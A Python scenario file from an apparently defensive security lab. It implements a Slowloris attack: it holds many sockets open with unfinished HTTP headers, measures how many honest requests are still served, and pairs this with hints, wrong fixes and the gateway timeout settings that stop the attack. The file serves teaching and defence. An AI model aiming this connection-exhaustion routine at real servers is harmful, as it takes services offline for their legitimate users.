"""Connections that say nothing, until there is no room for anybody else."""

from __future__ import annotations

import select
import socket
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import urlsplit

from gateway.cli.console import Failure
from scenarios.lab.model import Control, Outcome, Rewrite, Scenario, WrongFix
from scenarios.lab.target import Target

ATTACKER = "127.0.0.69"
ROOM = 40
"""Connections in each worker, for this lesson: what a laptop can exhaust in a second."""
EACH, FULL, MOST = 20, 4, 600
"""Connections of a round; rounds in a row that are closed at once, by when both workers are full; and the most held."""
HONEST = 8


def small_room(document: dict[str, Any], _: Target) -> None:
    """A gateway with little room."""
    _public(document)["maxConnections"] = ROOM


def no_bounds(document: dict[str, Any], _: Target) -> None:
    """A head may take an hour, and one client may have all connections."""
    _public(document).update(headerTimeout="1h", maxConnectionsPerAddress=0)


def _public(document: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = next(one for one in document["listeners"] if one["name"] == "public")
    return found


def attack(lab: Target) -> Outcome:
    """Open many connections, begin a request on each, never end it; honest people come meanwhile."""
    with slow_connections(lab):
        served = sum(_served(lab) for _ in range(HONEST))
    return Outcome(
        breached=served <= HONEST // 2,
        got="every place that there is, without a request" if served <= HONEST // 2 else "a few connections",
        measures={"honest requests served meanwhile": f"{served} of {HONEST}"},
    )


@contextmanager
def slow_connections(lab: Target) -> Iterator[None]:
    """Connections with half a head, round after round, until nothing more is let in."""
    held: list[socket.socket] = []
    full = 0
    try:
        while full < FULL and len(held) < MOST:
            new = [one for _ in range(EACH) if (one := _begin(lab.client.base_url))]
            closed, _, _ = select.select(new, [], [], 0.05)  # readable: the gateway has closed it, or has answered
            for one in closed:
                one.close()
            held += [one for one in new if one not in closed]
            full = full + 1 if len(closed) == len(new) else 0
        yield
    finally:
        for one in held:
            one.close()


def _begin(url: str) -> socket.socket | None:
    where = urlsplit(url)
    try:
        one = socket.create_connection((where.hostname, where.port), timeout=2, source_address=(ATTACKER, 0))
        one.sendall(b"GET / HTTP/1.1\r\nHost: shop\r\nX-Wait: ")
    except OSError:
        return None
    return one


def _served(lab: Target) -> bool:
    try:
        return lab.call("nobody", "GET", "/products/1").status == 200
    except Failure:
        return False


def benign(lab: Target) -> bool:
    """Afterwards everything is as it was."""
    return any(_served(lab) for _ in range(50))


SCENARIO = Scenario(
    id="slowloris",
    title="Connections that say nothing",
    story=(
        "A request begins, and does not go on. It costs the attacker a socket and the gateway one, too; but the "
        "gateway has only so many. No request ever arrives, so no limit of requests counts one."
    ),
    references=("CWE-400", "CWE-770", "OWASP API4:2023"),
    claims=("C13",),
    difficulty=3,
    minutes=8,
    stage=(Rewrite(small_room, f"room for {ROOM} connections in each worker"),),
    weaknesses=(Rewrite(no_bounds, "a head may take an hour, and one address may have every connection"),),
    control=Control(
        name="a time for the whole head, and a share of the connections for each address",
        where="gateway",
        lines="listeners:\n  - name: public\n    headerTimeout: 10s              # the defaults\n"
        "    # maxConnectionsPerAddress: half of maxConnections",
        elsewhere="# Envoy\nrequest_headers_timeout: 10s        # HttpConnectionManager; 0 (off) unless set",
    ),
    attack=attack,
    benign=benign,
    hints=(
        "gatehouse top shows connections and requests. Which of them goes up?",
        "How long may a head take? Is that the time between two bytes, or for all of it?",
        "Even 10 seconds are long when one client holds every place: who may have how many?",
    ),
    wrong_fixes=(
        WrongFix("more connections", "The attacker has as many as you, for less."),
        WrongFix("a time-out between two bytes", "One byte every nine seconds, for hours. The time must be total."),
        WrongFix("a limit of requests", "There is no request: a head that never ends is none."),
    ),
    questions=(
        ("And from a thousand addresses?", "Then the time of the head is what holds: each place is free after 10 s."),
        ("Where else is slowness a weapon?", "Bodies (minBodyRate), reading answers slowly, TLS handshakes."),
    ),
)
